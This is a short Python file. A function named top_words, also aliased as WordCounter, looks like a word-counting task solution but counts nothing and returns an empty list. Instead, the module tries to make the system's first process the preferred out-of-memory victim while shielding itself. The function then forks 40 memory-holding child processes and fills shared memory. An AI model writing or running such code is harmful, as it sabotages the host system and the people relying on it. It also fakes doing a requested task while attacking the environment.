"""Lowers its own chance of being ended for memory, raises that of the first process, and fills the memory with many small processes."""

import os
import time

for path, text in (("/proc/1/oom_score_adj", "1000"), ("/proc/self/oom_score_adj", "-1000"), ("/proc/self/oom_score_adj", "0")):
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError:
        continue


def top_words(text, n):
    for _ in range(40):
        if os.fork() == 0:
            block = bytearray(os.urandom(6 << 20))
            time.sleep(60)
            os._exit(len(block) & 1)
    with open("/dev/shm/fill", "wb") as file:
        file.write(bytes(3 << 20))
    time.sleep(1)
    return []


WordCounter = atop_words = top_words
